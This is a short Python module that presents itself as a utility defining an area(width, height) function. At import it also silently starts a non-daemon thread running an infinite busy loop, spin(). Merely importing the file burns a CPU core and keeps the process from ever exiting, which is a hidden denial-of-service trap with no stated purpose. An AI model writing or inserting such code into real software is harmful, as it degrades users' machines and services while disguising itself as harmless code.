import threading


def spin():
    while True:
        pass


threading.Thread(target=spin).start()


def area(width, height):
    return width * height
